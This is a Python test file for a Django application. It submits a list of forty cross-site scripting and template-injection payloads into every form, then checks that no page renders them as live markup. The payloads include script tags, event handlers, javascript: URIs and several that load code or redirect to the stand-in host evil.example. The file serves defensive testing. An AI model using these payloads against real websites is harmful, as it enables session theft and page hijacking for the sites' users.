"""Whatever anybody writes into any field, others read words: nothing of it becomes part of a page.

A walker opens every page that has a form, as somebody who may, fills every field she can write in, and sends it.
Then every page is read by everybody who may. Pages made later are walked too, without being named here.
"""

import re
from html.parser import HTMLParser

from django.urls import reverse
from django.utils import timezone

from tests.test_who_gets_in import PEOPLE, TABLE, urls

PAYLOADS = [
    "<script>pwn(1)</script>",
    '"><script src=//evil.example/pwn2.js></script>',
    "'><img src=x onerror=pwn(3)>",
    '" onfocus=pwn(4) autofocus="',
    "' onmouseover='pwn(5)",
    "<svg/onload=pwn(6)>",
    "<svg><script>pwn(7)</script></svg>",
    "<iframe srcdoc='<script>pwn(8)</script>'>",
    "<iframe src=javascript:pwn(9)>",
    "javascript:pwn(10)",
    "<a href=javascript:pwn(11)>x</a>",
    "<a href='data:text/html,<script>pwn(12)</script>'>x</a>",
    "</textarea><script>pwn(13)</script>",
    "</title><script>pwn(14)</script>",
    "</option></select><img src=x onerror=pwn(15)>",
    "<base href=//evil.example/pwn16/>",
    "<form action=//evil.example/pwn17><input name=x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/pwn18'>",
    "<link rel=stylesheet href=//evil.example/pwn19.css>",
    "<style>*{background:url(//evil.example/pwn20)}</style>",
    "<div style='background:url(//evil.example/pwn21)'>",
    "<object data=//evil.example/pwn22>",
    "<embed src=//evil.example/pwn23>",
    "<math><mtext><img src=x onerror=pwn(24)>",
    "<details open ontoggle=pwn(25)>",
    "<video><source onerror=pwn(26)>",
    "<button formaction=javascript:pwn(27)>",
    "<x hx-get=/pwn28 hx-trigger=load>",
    "<div hx-on:load='pwn(29)' data-hx-on='pwn(29)'>",
    "{{ 7|add:'pwn30' }}{% debug %}",
    "${pwn(31)}#{pwn(31)}<%= pwn(31) %>",
    "&lt;script&gt;pwn(32)&lt;/script&gt;",
    "&#60;img src=x onerror=pwn(33)&#62;",
    "\\u003cscript\\u003epwn(34)\\u003c/script\\u003e",
    "%3Cscript%3Epwn(35)%3C/script%3E",
    "＜script＞pwn(36)＜/script＞",
    "<scr\x00ipt>pwn(37)</scr\x00ipt>".replace("\x00", ""),
    "<!--><img src=x onerror=pwn(38)>-->",
    "<![CDATA[<script>pwn(39)</script>]]>",
    "\u202e<img src=x onerror=pwn(40)>\u2028",
]
WRITTEN_IN = ("text", "search", "tel", "")
SAID = {"safe": "no"}  # nobody is in danger: else the page sends her to the telephone first
# What ends somebody's reach comes after all else was written and read.
LAST = ("families:end", "families:hand_over", "families:say_goodbye_for_now", "families:welcome_back")
NEVER_OURS = {"iframe", "object", "embed", "base", "style", "math", "video", "audio", "applet", "frame", "template"}
# What a browser would run, follow or load by itself.
RUNS = re.compile(r"\s*(javascript|vbscript|data\s*:\s*text)", re.IGNORECASE)


class Form(HTMLParser):
    """The fields of the last form of a page that has more than a button, filled in as a hostile hand would."""

    def __init__(self, words):
        super().__init__()
        self.words, self.data, self.select = words, {}, None

    def handle_starttag(self, tag, attrs):
        field = dict(attrs)
        name, kind = field.get("name"), field.get("type", "" if tag == "input" else tag)
        if tag == "option" and self.select and not self.data.get(self.select) and field.get("value"):
            self.data[self.select] = field["value"]
        if not name or name == "csrfmiddlewaretoken" or "disabled" in field:
            return
        if tag == "select":
            self.select = name
        elif tag == "textarea":
            self.data[name] = self.words(int(field.get("maxlength") or 20_000), long=True)
        elif tag == "input" and kind in WRITTEN_IN:
            self.data[name] = self.words(int(field.get("maxlength") or 200), long=False)
        elif kind == "radio":
            if "checked" in field or name not in self.data:
                self.data[name] = field.get("value", "on")
        elif kind == "checkbox":
            if "checked" in field or name not in self.data:
                self.data.setdefault(name, []).append(field.get("value", "on"))
        elif kind == "date":
            self.data[name] = field.get("value") or timezone.localdate().isoformat()
        elif kind == "time":
            self.data[name] = field.get("value") or "10:00"
        elif tag == "input":
            self.data[name] = field.get("value", "")

    def handle_endtag(self, tag):
        if tag == "select":
            self.select = None


class Page(HTMLParser):
    """What a browser would make of a page, as far as it could run, follow or load anything."""

    def __init__(self, html):
        super().__init__()
        self.wrong, self.words = [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if name.startswith(("on", "hx-on", "data-hx-on")) or name in ("style", "srcdoc") or "pwn" in name:
                self.wrong.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "formaction", "data", "content", "hx-get", "hx-post"):
                if RUNS.match(value) or "pwn" in value.split("?")[0]:
                    self.wrong.append(f"<{tag} {name}={value[:60]}>")
        if (
            tag in NEVER_OURS
            or "pwn" in tag
            or (tag == "script" and not dict(attrs).get("src", "").startswith("/static/"))
        ):
            self.wrong.append(f"<{tag}>")

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.words += re.findall(r"pwn\(?(\d+)", data)


def hostile_words():
    """words(room, long=…): all of them where there is room for all, else the next that fits."""
    turn = iter(range(10_000))

    def words(room, *, long):
        if long:
            at_once = "\n".join(PAYLOADS)
            return at_once if len(at_once) <= room else "\n".join(PAYLOADS[next(turn) % 4 :: 4])[:room]
        for _ in PAYLOADS:
            one = PAYLOADS[next(turn) % len(PAYLOADS)]
            if len(one) <= room:
                return one
        return "<pwn>"[:room]

    return words


def pages(world, *, status="200"):
    for name, row in TABLE.items():
        pattern = dict(urls())[name].pattern
        known = world.get(name) or (world["family"] if "family" in pattern.converters else {})
        may = [person for person, got in zip(PEOPLE, row.split(), strict=True) if got == status and person != "nobody"]
        if set(pattern.converters) <= set(known):
            yield name, reverse(name, kwargs=known), may


def write_everywhere(world, client, person_called, *, last=False):
    """Send every form there is, once as the first who may. Returns which took it and what was wrong with an answer."""
    words, taken, wrong = hostile_words(), set(), []
    for name, address, may in pages(world):
        if not may or (name in LAST) is not last:
            continue
        client.force_login(person_called(may[0]))
        form = Form(words)
        form.feed(client.get(address).content.decode())
        if not form.data:
            continue
        data = {**form.data, **{field: word for field, word in SAID.items() if field in form.data}}
        answer = client.post(address, data)
        if answer.status_code == 422:  # what made no sense is left out, and the rest sent again
            wrong += [f"{name}, sent back: {one}" for one in Page(answer.content.decode()).wrong]
            refused = set(answer.context["form"].errors) if answer.context and "form" in answer.context else ()
            answer = client.post(address, {field: word for field, word in data.items() if field not in refused})
        if answer.status_code == 302:
            taken.add(name)
        elif answer.status_code >= 500:
            wrong.append(f"{name}: {answer.status_code}")
        elif answer.headers["Content-Type"].startswith("text/html"):
            wrong += [f"{name}, answered: {one}" for one in Page(answer.content.decode()).wrong]
    return taken, wrong


def read_everywhere(world, client, person_called):
    """Open every page as several of those who may. Returns which of the words were read, and what was wrong."""
    seen, wrong = set(), []
    for name, address, may in pages(world):
        for person in may[:2] + [one for one in may[2:] if one in ("jo", "ruth", "grace", "helen")]:
            client.force_login(person_called(person))
            answer = client.get(address)
            if answer.headers.get("Content-Type", "").startswith("text/html"):
                page = Page(answer.content.decode())
                seen |= set(page.words)
                wrong += [f"{name} for {person}: {one}" for one in page.wrong]
    return seen, wrong


def test_nothing_anybody_writes_becomes_part_of_a_page(world, client, request):
    person_called = request.getfixturevalue
    taken, wrong = write_everywhere(world, client, person_called)
    seen, found = read_everywhere(world, client, person_called)
    endings, also = write_everywhere(world, client, person_called, last=True)
    after, too = read_everywhere(world, client, person_called)
    assert wrong + found + also + too == []
    assert len(taken | endings) >= 14, f"only these took what was written: {sorted(taken | endings)}"
    assert len(seen | after) >= 35, f"only {len(seen | after)} of {len(PAYLOADS)} were read by anybody"


def test_the_examiner_finds_what_it_is_looking_for():
    """Unescaped, nearly all of them would be found: so finding none in the pages says something."""
    bare = [
        words for words in PAYLOADS if Page(f"<p>{words}</p><input value=\"{words}\"><input value='{words}'>").wrong
    ]
    assert len(bare) >= 28


def test_letters_are_plain_text(okafors, jo, settings):
    from django.core import mail

    from relational import post
    from tests import make

    settings.SERVICE_NAME = "\n".join(PAYLOADS)
    post.post(jo, "a_request_waits", about="x", family=okafors)
    post.deliver(make.moment(timezone.localdate(), "12:00"))
    assert mail.outbox[-1].content_subtype == "plain" and not mail.outbox[-1].alternatives
